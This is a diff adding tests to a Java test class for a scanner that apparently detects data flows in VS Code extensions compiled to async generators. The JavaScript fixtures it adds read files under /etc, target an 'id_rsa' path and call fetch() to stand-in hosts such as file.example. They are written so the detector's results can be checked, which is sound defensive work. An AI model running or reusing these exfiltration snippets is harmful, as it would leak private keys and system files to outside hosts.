@@ -3,6 +3,7 @@ package dev.vsxray.scanner.javascript.flow;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.vsxray.scanner.model.Feature;
+import java.util.List;
 import org.junit.jupiter.api.Test;
 
 /** Async functions and generators as compilers write them for engines that have neither: a switch over labels. */
@@ -21,6 +22,13 @@ class CompiledGeneratorsTest {
             function generator(self, body) { return unknownHelper(self, body); }
             const regenerator = unknownRuntime();
             """;
+
+    private static List<String> fetched(Analysis analysis) {
+        return analysis.calls()
+                .filter(call -> call.api().equals("global.fetch"))
+                .flatMap(call -> call.arguments().get(0).texts().stream())
+                .toList();
+    }
 
     private static Analysis typescript(String body) {
         return Analysis.ofActivate(HELPERS + "awaiter(this, void 0, void 0, function () { " + body + " });");
@@ -317,6 +325,64 @@ class CompiledGeneratorsTest {
                 """);
 
         assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
+    }
+
+    /** The helpers as esbuild 0.25 writes them for ES2017. */
+    @Test
+    void followsAsynchronousGeneratorsOfEsbuild() {
+        Analysis analysis = Analysis.of("""
+                var known = (name, symbol) => (symbol = Symbol[name]) ? symbol : Symbol.for("Symbol." + name);
+                var wrap = function (promise, isYieldStar) { this[0] = promise; this[1] = isYieldStar; };
+                var generating = (self, given, generator) => {
+                  var resume = (k, v, yes, no) => {
+                    try {
+                      var x = generator[k](v), isAwait = (v = x.value) instanceof wrap, done = x.done;
+                      Promise.resolve(isAwait ? v[0] : v)
+                          .then(y => isAwait ? resume(k === "return" ? k : "next", y, yes, no) : yes({ value: y, done }))
+                          .catch(e => resume("throw", e, yes, no));
+                    } catch (e) { no(e); }
+                  }, method = (k, call) => it[k] = x => (call = new Promise((yes, no) => resume(k, x, yes, no)), call), it = {};
+                  return generator = generator.apply(self, given), it[known("asyncIterator")] = () => it,
+                      method("next"), method("throw"), method("return"), it;
+                };
+                var values = (o, it) => (it = o[known("asyncIterator")]) ? it.call(o) : o;
+                function files(dir) {
+                  return generating(this, null, function* () {
+                    for (const name of yield new wrap(require('fs').promises.readdir(dir))) {
+                      const stat = yield new wrap(require('fs').promises.stat(name));
+                      yield { path: dir + '/id_rsa', size: stat.size };
+                    }
+                  });
+                }
+                exports.activate = async () => {
+                  for (var all = values(files('/etc')), more, step; more = !(step = await all.next()).done; more = false) {
+                    const file = step.value;
+                    fetch('https://file.example' + file.path);
+                  }
+                };
+                """);
+
+        assertThat(fetched(analysis)).containsExactly("https://file.example/etc/id_rsa");
+    }
+
+    @Test
+    void whatACompiledAsynchronousGeneratorAwaitsIsNothingThatItYields() {
+        Analysis analysis = Analysis.ofActivate("""
+                var wrap = function (v) { return this instanceof wrap ? (this.v = v, this) : new wrap(v); };
+                var generating = function (self, given, generator) {
+                  if (!Symbol.asyncIterator) throw new TypeError("Symbol.asyncIterator is not defined.");
+                  var g = generator.apply(self, given || []), i, q = [];
+                };
+                function pages() {
+                  return generating(this, arguments, function* () {
+                    const host = yield wrap(Promise.resolve('waited'));
+                    yield yield wrap({ name: 'given by ' + host });
+                  });
+                }
+                (async () => { for await (const page of pages()) fetch('https://page.example/' + page.name); })();
+                """);
+
+        assertThat(fetched(analysis)).containsExactly("https://page.example/given by waited");
     }
 
     @Test
